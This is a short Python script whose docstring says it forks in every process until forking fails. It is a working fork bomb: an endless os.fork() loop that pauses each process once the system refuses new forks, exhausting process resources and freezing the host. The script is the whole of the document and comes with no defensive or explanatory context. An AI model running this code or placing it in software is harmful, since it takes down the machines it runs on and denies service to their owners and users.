"""Forks until it may not, in every process that it gets."""

import os
import signal

while True:
    try:
        os.fork()
    except OSError:
        signal.pause()
